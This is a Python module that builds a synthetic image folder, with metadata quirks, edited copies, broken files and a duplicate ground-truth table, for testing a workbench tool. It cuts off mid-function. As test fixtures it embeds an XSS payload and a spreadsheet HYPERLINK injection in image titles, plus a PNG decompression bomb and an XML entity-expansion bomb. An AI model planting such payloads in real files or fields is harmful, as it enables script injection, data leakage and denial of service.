"""A collection to try the workbench on: a client's folder, made on the spot, the same every time.

`make_sample` draws a few hundred pictures (see `workbench.sample_pictures`), gives them metadata with the
usual gaps and contradictions (`workbench.sample_metadata`), adds edited copies, broken files and
the odds and ends that live in real folders, and writes down beside the folder which file is a copy of
which, so that finding duplicates can be measured.
"""

from __future__ import annotations

import csv
import dataclasses
import functools
import io
import itertools
import os
import random
import shutil
import struct
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pillow_heif
from PIL import Image, ImageCms, ImageEnhance, ImageOps

from workbench import sample_metadata as metadata
from workbench import sample_pictures as pictures
from workbench.errors import BadValue
from workbench.in_words import InWords
from workbench.sample_metadata import Caption

FEWEST, MOST = 30, 20_000

RELATED = {"colour_variant", "next_page", "next_frame", "recolour"}
"""Kinds of pair that look alike and yet are two pictures, each worth keeping."""

EXTENSIONS = {
    "JPEG": ".jpg",
    "PNG": ".png",
    "TIFF": ".tif",
    "WEBP": ".webp",
    "GIF": ".gif",
    "BMP": ".bmp",
    "HEIF": ".heic",
    "AVIF": ".avif",
}

OPTIONS: dict[str, dict[str, Any]] = {
    "JPEG": {"quality": 88},
    "PNG": {"compress_level": 3},
    "TIFF": {"compression": "tiff_adobe_deflate"},
    "WEBP": {"quality": 82, "method": 2},
    "HEIF": {"quality": 60, "enc_params": {"preset": "ultrafast"}},
    "AVIF": {"quality": 62, "speed": 9, "max_threads": 1},
}

STORED = {3: Image.Transpose.ROTATE_180, 6: Image.Transpose.ROTATE_90, 8: Image.Transpose.ROTATE_270}
"""EXIF orientation → how the pixels lie in such a file, relative to the upright picture."""


class Pair(NamedTuple):
    """One line of the truth: a file made from, or in one series with, another.

    Attributes
    ----------
    copy, original : str
        Paths inside the collection, with ``/``.
    edit : str
        What was done.
    """

    copy: str
    original: str
    edit: str

    @property
    def duplicate(self) -> bool:
        """Whether one of the two could go without losing a picture."""
        return self.edit not in RELATED


@dataclass(frozen=True, slots=True)
class SampleReport(InWords):
    """What `make_sample` made.

    Attributes
    ----------
    folder, truth_file : pathlib.Path
        The collection, and the table of pairs beside it.
    images, broken, others : int
        Files that show a picture, damaged or hostile ones, and those that never were pictures.
    size : int
        Bytes of all files together.
    formats, kinds : dict of str to int
        Images by what their content is, and by what they show.
    truth : tuple of Pair
        Which file was made from which.
    """

    folder: Path
    truth_file: Path
    images: int
    broken: int
    others: int
    size: int
    formats: dict[str, int]
    kinds: dict[str, int]
    truth: tuple[Pair, ...]

    def __str__(self) -> str:
        formats = ", ".join(f"{count} {name}" for name, count in self.formats.items())
        return (
            f"{self.images} images ({formats}), {self.broken} damaged files and {self.others} other files "
            f"in {self.folder}, {self.size / 1e6:.0f} MB.\nWhich file was made from which: {self.truth_file}."
        )


@dataclass
class Shot:
    """One image to be made: where it goes, how it is drawn, what it says about itself."""

    path: str
    kind: str
    draw: Callable[[], list[Image.Image]]
    format: str
    said: Caption
    options: dict[str, Any] = field(default_factory=dict)
    like: tuple[str, str] | None = None


def make_sample(
    folder: str | os.PathLike[str],
    *,
    seed: int = 7,
    images: int = 360,
    progress: Callable[[int, int], None] | None = None,
) -> SampleReport:
    """Make a collection of images that looks like a client's folder.

    The same arguments give the same bytes, as long as the libraries that encode them are the same.
    The folder appears when it is complete: killed half-way, nothing is left under its name.

    Parameters
    ----------
    folder : str or path
        Where to make it; must not exist yet, or be empty.
    seed : int
        Another seed gives another collection of the same sort.
    images : int
        How many files that show a picture, 30 to 20,000; some 20 others come on top.
    progress : callable, optional
        Called with (files made, files in all).

    Returns
    -------
    SampleReport
        Counts, and which file is a copy of which; the latter is also in ``<folder>.truth.csv``.

    Raises
    ------
    BadValue
        When the folder holds something already, or the number of images is out of range.
    MissingExtra
        When scikit-image isn't installed.
    """
    target = Path(folder).absolute()
    check(target, images)
    pictures.photograph_file("astronaut.png")
    pillow_heif.register_heif_opener()
    building = target.with_name(f".{target.name}.sample-in-progress")
    shutil.rmtree(building, ignore_errors=True)
    try:
        report = build(building, target, seed, images, progress or (lambda done, total: None))
        if target.exists():
            target.rmdir()
        building.rename(target)
    finally:
        shutil.rmtree(building, ignore_errors=True)
    return report


def check(target: Path, images: int) -> None:
    """Refuse what can't be made."""
    if not FEWEST <= images <= MOST:
        raise BadValue(f"A sample of {images} images can't be made.", hint=f"Ask for {FEWEST} to {MOST:,}.")
    if target.exists() and (not target.is_dir() or any(target.iterdir())):
        raise BadValue(f"{target} exists already.", hint="Name a new folder, or delete this one first.")


def build(building: Path, target: Path, seed: int, images: int, progress: Callable[[int, int], None]) -> SampleReport:
    """Make all files in ``building`` and the table of pairs beside ``target``."""
    copies = round(images * 0.17)
    shots = plan(seed, images - copies)
    total = images + len(BROKEN) + len(OTHERS)
    made = itertools.count(1)
    truth, formats = [Pair(shot.path, *shot.like) for shot in shots if shot.like], Counter[str]()
    for shot in shots:
        save(building, shot.path, encoded(shot), shot.said.taken)
        formats[shot.format] += 1
        progress(next(made), total)
    for pair, format in make_copies(building, shots, seed, copies):
        truth.append(pair)
        formats[format] += 1
        progress(next(made), total)
    for path, content in odd_files(seed):
        save(building, path, content, None)
        progress(next(made), total)
    truth_file = target.with_name(f"{target.name}.truth.csv")
    write_truth(truth_file, truth)
    return SampleReport(
        folder=target,
        truth_file=truth_file,
        images=images,
        broken=len(BROKEN),
        others=len(OTHERS),
        size=sum(file.stat().st_size for file in building.rglob("*") if file.is_file()),
        formats={("HEIC" if name == "HEIF" else name): count for name, count in sorted(formats.items())},
        kinds=dict(sorted(Counter([shot.kind for shot in shots] + ["copy"] * copies).items())),
        truth=tuple(truth),
    )


def save(building: Path, path: str, content: bytes, taken: datetime | None) -> None:
    """Write a file, dated when its picture was taken."""
    file = building / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content)
    moment = (taken or clock("2025-06-01 12:00")).replace(tzinfo=UTC).timestamp()
    os.utime(file, (moment, moment))


def write_truth(file: Path, truth: list[Pair]) -> None:
    """Write the table of pairs: copy, original, edit, duplicate (yes or no)."""
    with file.open("w", encoding="utf-8", newline="") as out:
        table = csv.writer(out, lineterminator="\n")
        table.writerow(["copy", "original", "edit", "duplicate"])
        table.writerows([*pair, "yes" if pair.duplicate else "no"] for pair in truth)


# --- the plan --------------------------------------------------------------------------------


def plan(seed: int, count: int) -> list[Shot]:
    """Return ``count`` different images, each trade with its share, some of them with oddities."""
    shares: dict[str, float] = pictures.data()["shares"]
    counts = {kind: int(count * share) for kind, share in shares.items()}
    counts["products"] += count - sum(counts.values())
    shots = [shot for kind, number in counts.items() for shot in itertools.islice(TRADES[kind](seed), number)]
    rng = dice(seed, "oddities")
    add_oddities(rng, shots)
    rename(rng, shots)
    return shots


def numbers(seed: int, *about: object) -> np.random.Generator:
    """Return random numbers that belong to one picture, whatever else is made."""
    return np.random.default_rng([seed, zlib.crc32(repr(about).encode())])


def dice(seed: int, about: str) -> random.Random:
    """Return random choices for one part of the collection."""
    return random.Random(f"{seed} {about}")  # noqa: S311 - draws pictures, guards nothing


def clock(text: str) -> datetime:
    """Return a wall clock time, of no zone, as cameras know it."""
    return datetime.fromisoformat(text)


def pick(rng: random.Random, weights: dict[str, int]) -> str:
    """Return one of the keys, as often as its weight says."""
    return rng.choices(list(weights), list(weights.values()))[0]


SHELVES = {
    "sneaker": ("Shoes", "SH", "shoe"),
    "bottle": ("Bottles", "BT", "bottle"),
    "table_lamp": ("Lamps", "LA", "lamp"),
    "chair": ("Chairs", "CH", "chair"),
    "mug": ("Mugs", "MG", "mug"),
    "tote": ("Bags", "BG", "bag"),
    "boot": ("Shoes", "SH", "shoe"),
    "flask": ("Bottles", "BT", "bottle"),
    "desk_lamp": ("Lamps", "LA", "lamp"),
    "armchair": ("Chairs", "CH", "chair"),
    "teapot": ("Mugs", "MG", "mug"),
    "rucksack": ("Bags", "BG", "bag"),
}
"""Design → folder, beginning of the article number, subject."""


def products(seed: int) -> Iterator[Shot]:
    """Yield studio shots: models in two colours and several angles."""
    rng = dice(seed, "products")
    angles, palette = {angle["name"]: angle for angle in pictures.data()["angles"]}, pictures.data()["colours"]
    for model in itertools.count():
        design = list(SHELVES)[model % len(SHELVES)]
        shelf, letters, subject = SHELVES[design]
        main, other = rng.sample(list(palette), 2)
        paper = rng.choice(pictures.data()["backdrops"]["papers"])
        number, front = f"{letters}-{10200 + 7 * model}", ""
        for colour, angle in [(main, "front"), (main, "angle"), (other, "front"), (main, "detail")][: 3 + model % 2]:
            format = pick(rng, {"JPEG": 78, "PNG": 8, "WEBP": 8, "TIFF": 3, "GIF": 3})
            path = f"Catalogue 2025/{shelf}/{number}_{colour}_{angle}{EXTENSIONS[format]}"
            front = front or path
            taken = clock("2025-01-14 09:00") + timedelta(minutes=11 * model, seconds=rng.randrange(600))
            said = metadata.caption(
                rng, subject, palette[colour]["names"], taken=taken, city=pictures.data()["cities"][1]
            )
            draw = functools.partial(
                shoot, design, colour, angles[angle], paper, cut=seed * 1000 + model, format=format
            )
            like = (front, "colour_variant") if colour == other else None
            yield Shot(path, "product", draw, format, said, like=like)


def shoot(design: str, colour: str, angle: dict[str, Any], paper: str, *, cut: int, format: str) -> list[Image.Image]:
    """Draw a product: cut out for PNG, turning for GIF, in the studio otherwise."""
    colours = {**pictures.data()["paints"], **pictures.data()["colours"][colour]}
    if format == "PNG":
        return [pictures.cutout(design, colours, angle, cut=cut, edge=640)]
    if format == "GIF":
        turns = [{**angle, "squeeze": squeeze} for squeeze in (1.0, 0.8, 0.6, 0.8)]
        return [pictures.product(design, colours, turn, paper, cut=cut, edge=320) for turn in turns]
    return [pictures.product(design, colours, angle, paper, cut=cut, edge=760)]


ROLLS = [
    ("Incoming/2025-04 Lisboa/IMG_{n:04d}.JPG", "es"),
    ("Incoming/Köln für Zoë/DSC{n:05d}.jpg", "de"),
    ("Incoming/写真 京都/P{n:07d}.jpg", "ja"),
    ("Incoming/القاهرة ٢٠٢٥/IMG-{n:04d}.jpg", "ar"),
    ("Incoming/Montréal – été/{n:04d}.jpg", "fr"),
    ("Incoming/Фото Буэнос-Айрес/DSCF{n:04d}.JPG", "ru"),
    ("Incoming/mumbai_trip/20250419_{n:06d}.jpg", "en"),
]
"""One per city in the tables: where its pictures lie."""


def photographs(seed: int) -> Iterator[Shot]:
    """Yield photographs: what scikit-image brings, then landscapes, towns and tables."""
    rng = dice(seed, "photographs")
    regions = pictures.data()["regions"]
    for number, region in enumerate(regions["photographs"] + regions["claims"]):
        claim = region in regions["claims"]
        path = f"Claims/2025-03/CLM-2025-00{310 + number}/IMG_{2200 + number}.jpg" if claim else ""
        grade = rng.choice(["none", "warm", "cool", "vivid", "faded"])
        draw = functools.partial(crop, region, grade, seed, 900)
        yield photo(rng, number, region["subject"], draw, path)
    for number in itertools.count(len(regions["photographs"] + regions["claims"])):
        kind = rng.choice(list(pictures.SCENES))
        subject = {"skyline": "town", "table": "still_life", "sea": "sea"}.get(kind, "landscape")
        yield photo(rng, number, subject, functools.partial(view, kind, seed, number), "")


def photo(rng: random.Random, number: int, subject: str, draw: Callable[[], list[Image.Image]], path: str) -> Shot:
    """Return one photograph, filed with the others of its town unless ``path`` says where."""
    format = pick(rng, {"JPEG": 76, "HEIF": 9, "AVIF": 6, "WEBP": 5, "PNG": 4})
    town = number // 3 % len(ROLLS)
    city, (roll, _) = pictures.data()["cities"][town], ROLLS[town]
    path = path or roll.format(n=40 + number * 2)
    if format != "JPEG":
        path = str(Path(path).with_suffix(EXTENSIONS[format]).as_posix())
    taken = clock("2025-04-02 07:00") + timedelta(days=town, minutes=37 * number, seconds=rng.randrange(60))
    said = metadata.caption(rng, subject, city["names"], taken=taken, city=city)
    if format == "JPEG" and "exif" in said.carriers and rng.random() < 0.2:
        said.orientation = rng.choice(list(STORED))
    return Shot(path, "photograph", draw, format, said)


def crop(region: dict[str, Any], grade: str, seed: int, edge: int) -> list[Image.Image]:
    """Return one of scikit-image's pictures, or a part of it."""
    return [pictures.photograph(region["file"], region["box"], numbers(seed, region), edge=edge, grade=grade)]


def view(kind: str, seed: int, number: int) -> list[Image.Image]:
    """Draw a place, with a product on the table if it is one."""
    rng = numbers(seed, "view", number)
    size = [(900, 600), (840, 560), (600, 840), (960, 540)][rng.integers(4)]
    picture = pictures.scene(kind, rng, size)
    if kind == "table":
        design, colour = rng.choice(list(pictures.data()["designs"])), rng.choice(list(pictures.data()["colours"]))
        colours = {**pictures.data()["paints"], **pictures.data()["colours"][colour]}
        edge, cut = round(min(size) * 0.92), int(rng.integers(1 << 30))
        thing = pictures.cutout(design, colours, pictures.data()["angles"][0], cut=cut, edge=edge)
        pictures.placed(thing, picture, int(rng.uniform(-0.1, size[0] / edge - 0.9) * edge), size[1] - edge)
    return [picture]


DESKS = {
    "letter": "Claims/2025-03/CLM-2025-00{n}/Letter {n}{x}",
    "form": "Scans/Formulare/Formular {n} S{sheet}{x}",
    "invoice": "Accounts/Invoices 2025/{n}_invoice{x}",
    "receipt": "Accounts/Receipts (unsorted)/scan{n:05d}{x}",
}
"""Kind of paper → where it is filed."""


def papers(seed: int) -> Iterator[Shot]:
    """Yield scanned letters, invoices, receipts and forms; a form is three pages, in one file or in three."""
    rng = dice(seed, "papers")
    for index in itertools.count():
        kind, language = list(DESKS)[index % 4], ("en", "de", "nl")[index % 3]
        format = pick(rng, {"JPEG": 50, "PNG": 20, "TIFF": 18, "BMP": 4, "WEBP": 8})
        number, first = 300 + index, ""
        taken = clock("2025-03-12 08:00") + timedelta(hours=5 * index)
        if index % 12 == 1:
            format = "TIFF"  # every third form is bound
        bound = kind == "form" and format == "TIFF"
        for sheet in range(1, 4 if kind == "form" and not bound else 2):
            path = DESKS[kind].format(n=number, sheet="1-3" if bound else sheet, x=EXTENSIONS[format])
            detail = dict.fromkeys(("en", "de", "fr", "ja", "ar", "ru", "es"), str(number))
            said = metadata.caption(rng, "paper", detail, taken=taken + timedelta(seconds=20 * sheet), city=None)
            draw = functools.partial(write, kind, language, seed, number, (1, 2, 3) if bound else (sheet,), format)
            like = (first, "next_page") if first else None
            first = path
            yield Shot(path, "paper", draw, format, said, {"dpi": (150, 150)}, like)


def write(kind: str, language: str, seed: int, number: int, sheets: tuple[int, ...], format: str) -> list[Image.Image]:
    """Draw the pages of one paper, grey where scanners make them grey."""
    rngs = [numbers(seed, kind, number, sheet) for sheet in sheets]
    pages = [
        pictures.document(kind, language, rng, number=number, sheet=sheet)
        for rng, sheet in zip(rngs, sheets, strict=True)
    ]
    return [page.convert("L") for page in pages] if format in ("PNG", "TIFF", "BMP") else pages


def plates(seed: int) -> Iterator[Shot]:
    """Yield old glass plates, some scanned in 16 bits of grey."""
    rng = dice(seed, "plates")
    regions = pictures.data()["regions"]["plates"]
    for index in itertools.count():
        format, deep = pick(rng, {"JPEG": 62, "TIFF": 38}), False
        deep = format == "TIFF" and index % 2 == 0
        region = regions[index] if index < len(regions) else None
        shelf = rng.choice(["Glass plates", "Прага 1912", "Nachlaß Groß"])
        path = f"Archive/{shelf}/Plate {117 + index:04d}{EXTENSIONS[format]}"
        detail = {"en": f"no. {117 + index}", "de": f"Nr. {117 + index}", "fr": f"n° {117 + index}"}
        taken = clock("2024-11-04 10:00") + timedelta(minutes=4 * index)
        said = metadata.caption(rng, region["subject"] if region else "plate", detail, taken=taken, city=None)
        draw = functools.partial(print_plate, region, seed, 117 + index, deep)
        yield Shot(path, "plate", draw, format, said, {"dpi": (300, 300)})


def print_plate(region: dict[str, Any] | None, seed: int, number: int, deep: bool) -> list[Image.Image]:
    """Draw one plate."""
    rng = numbers(seed, "plate", number)
    if region:
        picture = crop(region, "mono", seed, 760)[0]
    else:
        picture = view(str(rng.choice(["mountains", "lake", "sea", "table"])), seed, 10_000_000 + number)[0]
    picture = pictures.plate(picture, rng, number)
    if not deep:
        return [picture]
    grey = np.asarray(pictures.scaled(picture, 0.7).convert("L"), dtype=np.float32) * 250
    return [Image.fromarray((grey + rng.uniform(0, 250, grey.shape)).astype(np.uint16))]


def clinic(seed: int) -> Iterator[Shot]:
    """Yield pictures from a clinic: microscope, eye, test objects in 16 bits."""
    rng = dice(seed, "clinic")
    regions = pictures.data()["regions"]["clinic"]
    for index in itertools.count():
        region = regions[index] if index < len(regions) else None
        subject = region["subject"] if region else "slice"
        format = pick(rng, {"PNG": 60, "TIFF": 20, "BMP": 20} if region else {"PNG": 70, "TIFF": 30})
        folder = {"retina": "Fundus", "slice": "CT test object"}.get(subject, "Pathology")
        path = f"Clinic/{folder}/{subject}_{index + 1:03d}{EXTENSIONS[format]}"
        taken = clock("2025-02-03 14:00") + timedelta(minutes=9 * index)
        said = metadata.caption(rng, subject, {"en": f"{index + 1:03d}"}, taken=taken, city=None)
        draw: Callable[[], list[Image.Image]] = functools.partial(examine, seed, index)
        if region:
            draw = functools.partial(crop, region, "none", seed, 620)
        yield Shot(path, "clinic", draw, format, said)


def examine(seed: int, index: int) -> list[Image.Image]:
    """Draw one slice of a test object."""
    return [pictures.slice_of_head(numbers(seed, "slice", index), 420)]


TRADES: dict[str, Callable[[int], Iterator[Shot]]] = {
    "products": products,
    "photographs": photographs,
    "papers": papers,
    "plates": plates,
    "clinic": clinic,
}


# --- oddities of metadata and of names -------------------------------------------------------


def garbled(text: str) -> str:
    """Return UTF-8 read as if it were Windows' western code page, as careless programs do."""
    return text.encode().decode("cp1252", "replace")


ODDITIES: list[dict[str, Any]] = [
    {"title": {"en": "<img src=x onerror=alert(document.title)>"}},
    {"title": {"en": '=HYPERLINK("http://example.com/?"&A1;"Invoice")'}},
    *({"title": {"en": text}} for text in ("untitled", "DSC_0001", "New Image", "SONY DSC", "xxx")),
    {"description": {"de": garbled("Grüße aus Köln – schöne Häuser")}, "creator": garbled("Jürgen Groß")},
    {"title": {"fr": garbled("Été à Montréal")}},
    {"serial": "0480003127", "owner": "Anna Lindqvist, +49 221 555 0134"},
    {"serial": "6021174", "owner": "Zoe Mueller-Fabre"},
    {"owner": "Taro Yamada, Tel. 075-555-0188"},
    {"differs": {"title": "Old title from the agency"}, "digest": "right"},
    {"differs": {"creator": "Picture Desk"}, "digest": "stale"},
    {"differs": {"description": "Not to be published before May."}, "digest": "none"},
    {"differs": {"date": "20240229", "time": "235959+0000"}},
    {"differs": {"city": "Porto", "country": "Portugal", "code": "PRT"}},
    {"description": {"en": 'The label reads, lang="fr" , upside down', "fr": "L’étiquette est à l’envers"}},
    {"description": {"en": "First line\nsecond line\ttab", "ar": "وصف من اليمين إلى اليسار"}},
    {"title": {"en": "Sale 🎉 50 % off & more"}, "keywords": ["sale", "Sale", " sale ", "50%", "été", "ete", "ÉTÉ"]},
    {"rating": -1},
    {"rights": "© Studio Nord GmbH", "differs": {"rights": "Public domain"}},
]
"""Values put over the ordinary ones, one row per image, in files that carry all three blocks."""


def add_oddities(rng: random.Random, shots: list[Shot]) -> None:
    """Put the odd values into pictures that carry EXIF, IPTC and XMP."""
    full = [shot for shot in shots if shot.format == "JPEG"]
    for shot, odd in zip(rng.sample(full, min(len(full), len(ODDITIES))), ODDITIES, strict=False):
        shot.said = dataclasses.replace(shot.said, carriers=("exif", "iptc", "xmp"), **odd)


NAMES = [
    ("JPEG", "Catalogue 2025/-front page (new).jpg"),
    ("PNG", "Catalogue 2025/Shoes/cutout for web.jpg"),
    ("JPEG", "Incoming/upload/Screenshot 2025-05-02 at 10.14.33.png"),
    ("WEBP", "Incoming/upload/image_from_web.jpg"),
    ("JPEG", "Incoming/upload/ohne Endung"),
    ("JPEG", "Incoming/upload/IMG_0042 (1).JPG"),
    ("JPEG", "Incoming/upload/靴_赤 最終版2.jpg"),
    ("JPEG", "Incoming/upload/صورة المنتج ٧.jpg"),
    ("JPEG", "Incoming/upload/Плакат — финал.jpeg"),
    ("JPEG", "Incoming/upload/Cafe\u0301 de\u0301tail.JPG"),
    ("JPEG", "Incoming/upload/100% cotton & wool; 50€ #3 'final' [v2].jpg"),
    ("JPEG", "Incoming/upload/" + "very long name as exported by the old shop system " * 4 + "end.jpg"),
]
"""Format of the content → a name that somebody gave the file."""


def rename(rng: random.Random, shots: list[Shot]) -> None:
    """Give some pictures the names that people really give, a few with the wrong ending."""
    named = {shot.like[0] for shot in shots if shot.like}
    free = [shot for shot in shots if shot.kind in ("product", "photograph") and "Claims" not in shot.path]
    free = [shot for shot in free if shot.path not in named and not shot.like]
    rng.shuffle(free)
    for format, name in NAMES:
        shot = next((shot for shot in free if shot.format == format), None)
        if shot:
            free.remove(shot)
            shot.path = name


@functools.cache
def srgb() -> bytes:
    """Return an sRGB profile without the moment of its making, which would differ from run to run."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile[:24] + bytes(12) + profile[36:]


def encoded(shot: Shot) -> bytes:
    """Return the file of one planned image."""
    frames = shot.draw()
    if shot.said.orientation:
        frames = [frame.transpose(STORED[shot.said.orientation]) for frame in frames]
    options = OPTIONS.get(shot.format, {}) | shot.options
    if frames[0].mode == "RGB" and shot.format in ("JPEG", "PNG", "TIFF") and zlib.crc32(shot.path.encode()) % 5 < 3:
        options["icc_profile"] = srgb()
    if len(frames) > 1:
        options |= {"save_all": True, "append_images": frames[1:]}
    if shot.format == "GIF":
        options |= {"duration": 300, "loop": 0}
    return metadata.encode(frames[0], shot.format, shot.said, **options)


# --- copies ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Edit:
    """One way in which copies come about: what happens to the pixels, and how the copy is saved."""

    change: Callable[[Image.Image, np.random.Generator], Image.Image] = lambda image, rng: image
    format: str = "JPEG"
    quality: int = 86
    folder: str = "From agency/Selects"


def trimmed(image: Image.Image, part: float, rng: np.random.Generator) -> Image.Image:
    """Return a part of the picture, ``part`` of each side."""
    left, top = rng.uniform(0, 1 - part, 2) * image.size
    return image.crop((round(left), round(top), round(left + part * image.width), round(top + part * image.height)))


def tilted(image: Image.Image, degrees: float) -> Image.Image:
    """Return the picture turned a little and cut so that no corner shows."""
    turned = image.rotate(degrees, resample=Image.Resampling.BICUBIC)
    return ImageOps.crop(turned, round(max(image.size) * 0.03))


def tinted(image: Image.Image, rng: np.random.Generator) -> Image.Image:
    """Return the picture with all its hues moved."""
    hue, saturation, value = image.convert("HSV").split()
    step = int(rng.integers(20, 60))
    hue = hue.point(lambda level: (level + step) % 256)
    return Image.merge("HSV", (hue, saturation, value)).convert("RGB")


EDITS: dict[str, Edit] = {
    "exact": Edit(folder="Backup (do not delete)"),
    "metadata_only": Edit(),
    "exif_orientation": Edit(folder="Old laptop/DCIM/100CANON"),
    "resize_50": Edit(lambda image, rng: pictures.scaled(image, 0.5), folder="Web/small"),
    "resize_150": Edit(lambda image, rng: pictures.scaled(image, 1.5)),
    "thumbnail": Edit(lambda image, rng: pictures.scaled(image, 0.2), folder="Web/thumbs"),
    "crop_90": Edit(lambda image, rng: trimmed(image, 0.9, rng)),
    "crop_60": Edit(lambda image, rng: trimmed(image, 0.6, rng)),
    "recompress_q20": Edit(quality=20, folder="From WhatsApp"),
    "rotate_90": Edit(lambda image, rng: image.transpose(Image.Transpose.ROTATE_90), folder="Old laptop/DCIM/100CANON"),
    "rotate_3": Edit(lambda image, rng: tilted(image, 3)),
    "mirror": Edit(lambda image, rng: ImageOps.mirror(image)),
    "recolour": Edit(tinted),
    "brightness": Edit(lambda image, rng: ImageEnhance.Brightness(image).enhance(1.3)),
    "contrast": Edit(lambda image, rng: ImageEnhance.Contrast(image).enhance(0.7)),
    "watermark": Edit(
        lambda image, rng: pictures.lettered(image, "STUDIO NORD", image.width // 9), folder="Web/preview"
    ),
    "text_overlay": Edit(lambda image, rng: pictures.captioned(image, "NEW - now 20 % off"), folder="Web/campaign"),
    "border": Edit(lambda image, rng: ImageOps.expand(image, image.width // 20, "white")),
    "greyscale": Edit(lambda image, rng: image.convert("L")),
    "format_png": Edit(format="PNG", folder="Web/png"),
    "format_webp": Edit(format="WEBP", folder="Web/webp"),
    "format_heic": Edit(format="HEIF", folder="Old laptop/iPhone"),
    "format_avif": Edit(format="AVIF", folder="Web/avif"),
    "format_bmp": Edit(lambda image, rng: pictures.scaled(image, 0.6), format="BMP", folder="Old laptop/Paint"),
    "format_gif": Edit(lambda image, rng: pictures.scaled(image, 0.5), format="GIF", folder="Web/gif"),
    "print_cmyk": Edit(lambda image, rng: image.convert("CMYK"), folder="Print"),
    "next_frame": Edit(pictures.next_frame, folder=""),
}
"""Kind of copy → how it is made; the first three are made from the file's bytes."""


def make_copies(building: Path, shots: list[Shot], seed: int, count: int) -> Iterator[tuple[Pair, str]]:
    """Write ``count`` copies of images already made; yield what was made from what, and in which format."""
    rng = dice(seed, "copies")
    fit = [shot for shot in shots if shot.format == "JPEG" and not shot.said.orientation and not shot.like]
    rng.shuffle(fit)
    for number, shot in zip(range(count), itertools.cycle(fit), strict=False):
        kind = list(EDITS)[number % len(EDITS)]
        edit = EDITS[kind]
        source = (building / shot.path).read_bytes()
        said = copied(rng, shot.said, kind)
        content = COPIERS.get(kind, redrawn)(source, edit, said, numbers(seed, kind, number))
        path = copy_path(building, shot.path, edit, kind)
        save(building, path, content, shot.said.taken if kind in ("exact", "next_frame") else clock("2025-05-20 00:00"))
        yield Pair(path, shot.path, kind), edit.format


def copied(rng: random.Random, said: Caption, kind: str) -> Caption:
    """Return what a copy says about itself: as before, or nothing, or something new."""
    if kind == "metadata_only":
        words = [*said.keywords, "selected", "2025"]
        return dataclasses.replace(said, title={"en": "Picked for print"}, keywords=words, rating=5, carriers=("xmp",))
    if kind == "exif_orientation":
        return dataclasses.replace(said, orientation=rng.choice(list(STORED)), carriers=("exif",))
    if kind == "next_frame" and said.taken:
        return dataclasses.replace(said, taken=said.taken + timedelta(seconds=1))
    return said if rng.random() < 0.5 else Caption(carriers=())


def copy_path(building: Path, original: str, edit: Edit, kind: str) -> str:
    """Return a free name for a copy, in the folder where such copies end up."""
    old = Path(original)
    folder = edit.folder or old.parent.as_posix()
    stem = old.stem[:60].removesuffix(" ")
    names = [stem, f"{stem} (1)", f"{stem} - Copy", *(f"{stem}_{number}" for number in range(2, 99))]
    if kind == "exact":
        names = names[1:]
    kept = edit.format == "JPEG" and old.suffix.lower() in (".jpg", ".jpeg")
    ending = old.suffix if kept else EXTENSIONS[edit.format]
    return next(path for name in names if not (building / (path := f"{folder}/{name}{ending}")).exists())


def opened(source: bytes) -> Image.Image:
    """Return the pixels of a file just made."""
    with Image.open(io.BytesIO(source)) as image:
        return image.convert("RGB")


def redrawn(source: bytes, edit: Edit, said: Caption, rng: np.random.Generator) -> bytes:
    """Return a copy with changed pixels."""
    options = OPTIONS.get(edit.format, {}) | ({"quality": edit.quality} if edit.format == "JPEG" else {})
    return metadata.encode(edit.change(opened(source), rng), edit.format, said, **options)


def same_bytes(source: bytes, edit: Edit, said: Caption, rng: np.random.Generator) -> bytes:
    """Return the file as it is."""
    return source


def other_metadata(source: bytes, edit: Edit, said: Caption, rng: np.random.Generator) -> bytes:
    """Return the same coded picture with other metadata."""
    return metadata.with_segments(metadata.without_metadata(source), metadata.segments(said))


def laid_down(source: bytes, edit: Edit, said: Caption, rng: np.random.Generator) -> bytes:
    """Return the picture stored sideways, with the EXIF orientation that sets it upright."""
    image = opened(source).transpose(STORED[said.orientation or 3])
    return metadata.encode(image, "JPEG", said, quality=92)


COPIERS = {"exact": same_bytes, "metadata_only": other_metadata, "exif_orientation": laid_down}


# --- broken files, and files that aren't images ----------------------------------------------


def bomb() -> bytes:
    """Return a small PNG that claims 400 megapixels."""
    pack = zlib.compressobj(9)
    rows = [pack.compress(bytes(2501 * 1000)) for _ in range(20)]
    header = struct.pack(">IIBBBBB", 20_000, 20_000, 1, 0, 0, 0, 0)
    return png_of([(b"IHDR", header), (b"IDAT", b"".join(rows) + pack.flush())])


def png_of(chunks: list[tuple[bytes, bytes]]) -> bytes:
    """Return a PNG made of the given chunks."""
    coded = (
        struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        for name, content in [*chunks, (b"IEND", b"")]
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(coded)


def endless_text() -> bytes:
    """Return a small, sound PNG whose description is ten million characters long."""
    text = metadata.packet(metadata.alternatives("dc:description", {"en": "word " * 2_000_000}))
    chunk = b"XML:com.adobe.xmp\0\x01\0\0\0" + zlib.compress(text, 9)
    return png_of(
        [
            (b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)),
            (b"iTXt", chunk),
            (b"IDAT", zlib.compress(b"".join(b"\0" + bytes(range(y, y + 64)) for y in range(64)))),
        ]
    )


def with_xmp(jpeg: bytes, text: str) -> bytes:
    """Return a JPEG whose only metadata is this text in the place of an XMP packet."""
    segment = (0xE1, b"http://ns.adobe.com/xap/1.0/\0" + text.encode())
    return metadata.with_segments(metadata.without_metadata(jpeg), [segment])


def entity_bomb(jpeg: bytes) -> bytes:
    """Return a JPEG whose XMP would grow to gigabytes if its entities were followed."""
    levels = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    text = metadata.packet("<dc:format>&a9;</dc:format>").decode()
    return with_xmp(jpeg, f'<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]>{text}')


def captioned(jpeg: bytes, **values: Any) -> bytes:
    """Return a JPEG with metadata that nobody checked."""
    said = dataclasses.replace(Caption(taken=clock("2025-03-04 05:06:07")), **values)
    return metadata.with_segments(metadata.without_metadata(jpeg), metadata.segments(said))


def bad_date(jpeg: bytes) -> bytes:
    """Return a JPEG taken "next tuesday"."""
    block = Image.Exif()
    block[0x0132] = "next tuesday"
    block[0x8769] = {0x9003: "next tuesday", 0x9004: "0000:00:00 00:00:00"}
